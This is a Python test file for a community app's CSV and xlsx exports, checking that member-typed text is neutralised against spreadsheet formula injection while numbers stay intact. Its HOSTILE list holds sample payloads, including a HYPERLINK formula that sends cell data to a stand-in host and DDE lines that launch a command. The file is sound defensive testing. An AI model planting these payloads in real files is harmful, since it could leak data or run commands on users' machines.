"""Every CSV and xlsx Kyodo writes: text a member typed never becomes a formula; numbers stay numbers.

The xlsx is read back as its XML (no openpyxl), the CSV with the csv module."""

import csv
import datetime as dt
import io
import xml.etree.ElementTree as ET
import zipfile

import pytest

from kyodo.community.tests.helpers import make_event
from kyodo.core.cells import neutralise
from kyodo.reports.exports import to_csv, to_xlsx
from kyodo.reports.tables import Table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_a_spreadsheet_would_run_is_quoted(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", [3, 2.5, -7, "-136.65", "+81", "12", None])
def test_numbers_stay_numbers(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("text", ["金沢市", "a=b", "メール: x@example.jp", "", "'already"])
def test_ordinary_text_is_unchanged(text):
    assert neutralise(text) == text


def test_an_event_description_in_the_public_csv_is_not_a_formula(client, db):
    make_event(title="=1+1", description=HOSTILE[0], start_date=dt.date(2026, 12, 5), longitude="-136.6562")
    body = client.get("/events.csv").content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(body)))[:2]
    record = dict(zip(header, row, strict=True))
    assert record["イベント名"] == "'=1+1"
    assert record["説明"] == "'" + HOSTILE[0]
    assert record["経度"] == "-136.656200"  # a number stays a number
    assert not any(cell.startswith(("=", "+", "@")) for cell in row)


def _xlsx_cells(content):
    """Each cell of the first sheet as (formula or None, inline/shared text or value), from the raw XML."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        names = archive.namelist()
        shared = []
        if "xl/sharedStrings.xml" in names:
            root = ET.fromstring(archive.read("xl/sharedStrings.xml"))
            shared = ["".join(t.text or "" for t in si.iter(f"{SHEET}t")) for si in root.iter(f"{SHEET}si")]
        sheet = ET.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    cells = []
    for c in sheet.iter(f"{SHEET}c"):
        formula = c.find(f"{SHEET}f")
        value = c.find(f"{SHEET}v")
        inline = c.find(f"{SHEET}is")
        if c.get("t") == "s" and value is not None:
            text = shared[int(value.text)]
        elif inline is not None:
            text = "".join(t.text or "" for t in inline.iter(f"{SHEET}t"))
        else:
            text = None if value is None else value.text
        cells.append((formula, c.get("t"), text))
    return cells


def test_the_statistics_workbook_holds_no_formula_and_keeps_numbers():
    table = Table(key="k", title="=title", headers=["@head", "件数"], rows=[[HOSTILE[0], 3], ["+cmd", 2.5]])
    cells = _xlsx_cells(to_xlsx([table], "=report"))
    assert all(formula is None for formula, _, _ in cells)
    texts = [text for _, kind, text in cells if kind in ("s", "inlineStr", "str")]
    assert "'" + HOSTILE[0] in texts and "'+cmd" in texts and "'=report" in texts and "'@head" in texts
    numbers = [text for _, kind, text in cells if kind in (None, "n")]
    assert numbers == ["3", "2.5"]


def test_the_statistics_csv_quotes_formulas():
    table = Table(key="k", title="t", headers=["名前", "件数"], rows=[["=1+1", 4]])
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
    assert rows == [["名前", "件数"], ["'=1+1", "4"]]
